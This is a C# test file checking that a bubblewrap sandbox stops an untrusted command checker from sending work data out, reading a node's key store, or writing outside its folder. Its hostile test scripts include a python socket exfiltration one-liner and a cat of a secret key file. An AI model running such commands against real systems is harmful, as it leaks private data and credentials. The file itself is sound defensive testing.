using System.Net;
using System.Net.Sockets;
using System.Text;
using FairDelegation.Node.Configuration;
using FairDelegation.Node.Services;
using FairDelegation.Protocol.Sla;

namespace FairDelegation.Node.Tests;

/// <summary>
/// Issue 11 #5: a customer's command checker runs on the provider's unpaid plaintext work. In the bubblewrap sandbox it
/// cannot send the work anywhere, read the node's key store, or write outside its own folder; an honest checker still
/// reads the work and passes. Real bwrap (infra/ensure-bubblewrap.sh installs it).
/// </summary>
public sealed class CommandSandboxTests : IDisposable
{
    private readonly DirectoryInfo _dir = Directory.CreateTempSubdirectory("fd-sandbox-");
    private readonly string _work;
    private readonly string _keyStore;
    private const string Secret = "sk-of-the-node-0123456789abcdef";

    public CommandSandboxTests()
    {
        _work = Path.Combine(_dir.FullName, "work");
        File.WriteAllText(_work, "the unpaid work");
        _keyStore = Path.Combine(_dir.FullName, "keys");
        Directory.CreateDirectory(_keyStore);
        File.WriteAllText(Path.Combine(_keyStore, "work-key"), Secret);
    }

    public void Dispose() => _dir.Delete(recursive: true);

    private async Task<SlaVerdict> CheckAsync(string script)
    {
        BubblewrapSandbox.Problem(new CommandSlaOptions()).Should().BeNull("infra/test.sh installs bubblewrap");
        var checker = Encoding.UTF8.GetBytes("#!/bin/sh\n" + script + "\n");
        var sla = new CommandSla(["/bin/sh", "{checker}", "{work}"], TimeoutMilliseconds: 60_000, CheckerAsset: "checker");
        var context = new SlaCheckContext(_work, new Dictionary<string, byte[]> { ["checker"] = checker })
        {
            Sandbox = new BubblewrapSandbox(new CommandSlaOptions { Enabled = true }),
        };
        return await sla.CheckAsync(context);
    }

    [Fact]
    public async Task An_honest_checker_reads_the_work_and_passes()
    {
        var verdict = await CheckAsync("""grep -q "unpaid work" "$1" && echo "found it" >&2""");
        verdict.Compliant.Should().BeTrue(verdict.Reason);
        verdict.Reason.Should().Contain("found it");
    }

    [Fact]
    public async Task A_checker_cannot_open_a_socket_and_the_work_never_leaves()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var accepted = listener.AcceptTcpClientAsync();

        var verdict = await CheckAsync($"""
            python3 -c 'import socket,sys; s=socket.create_connection(("127.0.0.1", {port}), timeout=5); s.sendall(open(sys.argv[1],"rb").read())' "$1" || exit 3
            """);

        verdict.Compliant.Should().BeFalse("the connection must fail inside the sandbox");
        verdict.Reason.Should().Contain("exit 3");
        accepted.IsCompleted.Should().BeFalse("nothing reached the listener on the host's loopback");
    }

    [Fact]
    public async Task A_checker_cannot_read_the_node_key_store()
    {
        var verdict = await CheckAsync($"""cat "{_keyStore}/work-key" >&2 || exit 4""");
        verdict.Compliant.Should().BeFalse();
        verdict.Reason.Should().Contain("exit 4").And.NotContain(Secret);
    }

    [Fact]
    public async Task A_checker_cannot_write_outside_its_own_folder()
    {
        var leak = Path.Combine(_dir.FullName, "leak");
        var verdict = await CheckAsync($"""
            echo scratch > ./own-file || exit 5
            echo x > "{leak}" && exit 6
            echo x > "$1" && exit 7
            echo x > /usr/leak && exit 8
            exit 9
            """);
        verdict.Reason.Should().Contain("exit 9", "only its own folder is writable");
        File.Exists(leak).Should().BeFalse();
        File.ReadAllText(_work).Should().Be("the unpaid work");
    }

    [Fact]
    public void A_command_inside_all_of_needs_the_sandbox_and_a_content_rule_does_not()
    {
        CommandSandbox.IsNeededFor(new AllOfSla([new MinBytesSla(1), new CommandSla(["true"])])).Should().BeTrue();
        CommandSandbox.IsNeededFor(new MinBytesSla(1)).Should().BeFalse();
    }

    [Fact]
    public void Command_slas_are_off_by_default()
    {
        new NodeOptions().Provider.CommandSlas.Enabled.Should().BeFalse();
    }
}
